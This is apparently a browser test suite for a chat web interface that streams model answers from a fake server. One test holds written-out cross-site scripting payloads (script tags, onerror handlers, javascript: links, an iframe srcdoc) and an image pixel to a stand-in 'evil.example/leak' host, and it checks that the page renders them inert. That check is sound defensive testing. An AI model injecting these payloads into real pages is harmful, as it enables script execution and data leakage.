import { afterEach, beforeEach, expect, setDefaultTimeout, test } from "bun:test"

import { describeInBrowser } from "./browser.ts"
import { type FakeServer, startFakeServer, tokens } from "./fake-server.ts"
import { eventually, type Session, startSession } from "./session.ts"

/** Talking to the model on the page, in a real browser against a server that answers as each test says. */

setDefaultTimeout(60_000)

const LONG = Array.from({ length: 400 }, (_, i) => `Line ${i} of a long answer.\n\n`)

describeInBrowser("chatting in a browser", (browser) => {
  let server: FakeServer
  let s: Session

  beforeEach(async () => {
    server = startFakeServer()
    s = await startSession(browser(), server.url)
  })

  afterEach(async () => {
    await s.close()
    await server.stop()
  })

  test("an answer streams in, with what it cost", async () => {
    server.reply = () => ({ chunks: ["The ", "**answer** ", "is ", "`42`."], delayMs: 150 })
    await s.send("What is the answer?")
    // Text is there while the stream still runs.
    await s.page.waitForFunction(
      () => document.querySelector(".prose strong")?.textContent === "answer",
    )
    expect(await s.page.$(".is-stop")).not.toBeNull()
    await s.done(1)
    expect(await s.texts(".prose")).toEqual(["The answer is 42."])
    const [stats] = await s.texts(".stats")
    expect(stats).toContain("131 tokens/s")
    expect(stats).toMatch(/first token \d+ ms/)
    expect(stats).toContain("4 tokens")
    expect(stats).toContain("prompt 42, 30 of it cached")
    expect(await s.texts(".meter-text")).toEqual(["46 of 8.2k"])
    expect(await s.texts(".model-name")).toEqual(["SmolLM2-135M-Instruct"])
    expect(await s.texts(".header-title")).toEqual(["What is the answer?"])
    expect(server.calls[0]?.body).toMatchObject({
      model: "SmolLM2-135M-Instruct",
      messages: [{ role: "user", content: "What is the answer?" }],
      stream: true,
      stream_options: { include_usage: true, continuous_usage_stats: true },
    })
    // Screen readers get the whole answer once.
    expect(await s.page.$eval("[aria-atomic]", (e) => e.textContent)).toBe(
      "The **answer** is `42`.",
    )
    expect(s.problems).toEqual([])
  })

  test("stop keeps what came and closes the request", async () => {
    server.reply = () => ({ chunks: LONG, delayMs: 20 })
    await s.send("Go on")
    await s.page.waitForSelector(".prose")
    await s.click("Stop answering")
    await s.done(1)
    await eventually(() => server.calls[0]?.isAborted, true)
    expect(await s.texts(".ended")).toEqual(["Stopped here."])
    const [text] = await s.texts(".prose")
    await Bun.sleep(200)
    expect(await s.texts(".prose")).toEqual([text ?? ""])
    expect(s.problems).toEqual([])
  })

  test("regenerate asks again with the same messages", async () => {
    server.reply = (_, index) => ({ chunks: [`Answer ${index}`] })
    await s.send("Hi")
    await s.done(1)
    await s.send("More")
    await s.done(2)
    await s.click("Regenerate answer")
    // The first answer's button: what followed stays with the first version.
    await eventually(() => s.texts(".prose"), ["Answer 2"])
    expect(server.calls[2]?.body.messages).toEqual([{ role: "user", content: "Hi" }])
    await s.done(1)
    await s.click("Previous version")
    await eventually(() => s.texts(".prose"), ["Answer 0", "Answer 1"])
    expect(s.problems).toEqual([])
  })

  test("an edited message replaces what followed it", async () => {
    server.reply = (call) => ({ chunks: [`You said ${call.body.messages.at(-1)?.content}`] })
    await s.send("one")
    await s.done(1)
    await s.send("two")
    await s.done(2)
    expect(server.calls[1]?.body.messages.map((message) => message.content)).toEqual([
      "one",
      "You said one",
      "two",
    ])
    await s.click("Edit and resend")
    await s.page.waitForSelector(".editor")
    await s.page.keyboard.type(" more")
    await s.page.keyboard.press("Enter")
    await eventually(() => s.texts(".prose"), ["You said one more"])
    expect(await s.texts(".bubble")).toEqual(["one more"])
    expect(s.problems).toEqual([])
  })

  test("a message can be deleted and brought back", async () => {
    await s.send("Hi")
    await s.done(1)
    await s.click("Delete answer")
    await eventually(() => s.texts(".prose"), [])
    await s.page.locator(".notice .button").click()
    await eventually(() => s.texts(".prose"), ["Hello there."])
  })

  test("follows the answer until the reader scrolls up", async () => {
    server.reply = () => ({ chunks: LONG, delayMs: 5 })
    await s.send("Go on")
    const distance = (): Promise<number> =>
      s.page.$eval(".scroller", (e) => e.scrollHeight - e.clientHeight - e.scrollTop)
    await s.page.waitForFunction(() => (document.querySelector(".scroller")?.scrollTop ?? 0) > 300)
    expect(await distance()).toBeLessThan(40)
    await s.page.hover(".scroller")
    await s.page.mouse.wheel({ deltaY: -200 })
    await s.page.waitForSelector(".to-end")
    const top = await s.page.$eval(".scroller", (e) => e.scrollTop)
    await Bun.sleep(300)
    expect(await s.page.$eval(".scroller", (e) => e.scrollTop)).toBe(top)
    await s.page.locator(".to-end").click()
    await s.done(1)
    await eventually(async () => (await distance()) < 2, true)
    expect(s.problems).toEqual([])
  })

  test("a hostile answer stays text", async () => {
    const payload = [
      "<script>window.hacked = 1; alert(1)</script>",
      '<img src="https://evil.example/x" onerror="window.hacked = 1">',
      '[click](javascript:window.hacked=1) <a href="javascript:alert(1)">x</a>',
      '<iframe srcdoc="<script>parent.hacked = 1</script>"></iframe>',
      "![pixel](https://evil.example/leak?q=1)",
      "$\\href{javascript:window.hacked=1}{x}$ $\\includegraphics{https://evil.example/y}$",
      '```"><img src=x onerror=window.hacked=1>\ncode\n```',
    ].join("\n\n")
    server.reply = () => ({ chunks: tokens(payload) })
    await s.page.focus("#prompt")
    await s.page.keyboard.sendCharacter(payload)
    await s.page.keyboard.press("Enter")
    await s.done(1)
    await s.page.$$eval(".prose a, .prose button", (elements) => {
      for (const element of elements)
        if (!element.getAttribute("href")?.startsWith("http")) (element as HTMLElement).click()
    })
    await Bun.sleep(200)
    expect(await s.page.evaluate(() => "hacked" in window)).toBe(false)
    expect(await s.page.$$(".prose img, .prose iframe, .prose script")).toEqual([])
    expect(await s.texts(".bubble")).toEqual([payload])
    expect(s.problems).toEqual([])
  })

  test("a page closed while an answer streams keeps what had come", async () => {
    server.reply = () => ({ chunks: ["Some ", "of ", "it", ...LONG], delayMs: 100 })
    await s.send("Go on")
    await eventually(async () => (await s.texts(".prose"))[0]?.startsWith("Some of"), true)
    await s.page.reload()
    await eventually(() => s.texts(".ended"), ["Stopped here."])
    expect((await s.texts(".prose"))[0]).toStartWith("Some of")
    await eventually(() => server.calls[0]?.isAborted, true)
    expect(s.problems).toEqual([])
  })

  test("reasoning is folded until asked for", async () => {
    server.reply = () => ({ chunks: tokens("<think>\nLet me see.\n</think>\n\nYes."), delayMs: 30 })
    await s.send("Well?")
    await eventually(() => s.texts(".thinking.is-running .thinking-head"), ["Thinking"])
    await s.done(1)
    expect(await s.texts(".thinking-head")).toEqual(["Thoughts"])
    expect(await s.texts(".prose")).toEqual(["Yes."])
    await s.page.locator(".thinking-head").click()
    await eventually(() => s.texts(".thinking-body"), ["Let me see."])
    await s.send("Sure?")
    await s.done(2)
    expect(server.calls[1]?.body.messages[1]).toEqual({ role: "assistant", content: "Yes." })
  })

  test("code can be copied", async () => {
    await s.context.overridePermissions(server.url, ["clipboard-read", "clipboard-sanitized-write"])
    server.reply = () => ({ chunks: ["```python\n", "print(1 < 2)\n", "```\n"] })
    await s.send("Code, please")
    await s.done(1)
    await s.page.locator(".copy-code").click()
    await eventually(() => s.texts(".copy-code"), ["Copied"])
    expect(await s.page.evaluate(() => navigator.clipboard.readText())).toBe("print(1 < 2)")
    expect((await s.page.$$(".hljs-number")).length).toBe(2)
  })

  test("errors show in place and can be tried again", async () => {
    server.reply = (_, index) =>
      index === 0
        ? { chunks: [], status: 429, error: "The queue is full.", headers: { "retry-after": "2" } }
        : { chunks: ["Done."] }
    await s.send("Hi")
    await eventually(() => s.texts(".failure p"), ["The queue is full. Try again in 2 s."])
    await s.page.locator(".failure .button").click()
    await eventually(() => s.texts(".prose"), ["Done."])
    expect(await s.texts(".failure")).toEqual([])
    expect(s.problems).toEqual([])
  })

  test("a lost connection keeps what came and says so", async () => {
    server.reply = () => ({ chunks: ["Half ", "an ", "answer"], cutAfter: 2 })
    await s.send("Hi")
    await eventually(
      () => s.texts(".failure p"),
      ["The connection to the server was lost before the answer was complete."],
    )
    expect(await s.texts(".prose")).toEqual(["Half an"])
    await s.page.setOfflineMode(true)
    await s.send("Still there?")
    await s.page.waitForSelector(".offline")
    expect((await s.texts(".failure p")).at(-1)).toStartWith("The server cannot be reached.")
    await s.page.setOfflineMode(false)
    await s.page.waitForSelector(".offline", { hidden: true })
  })
})
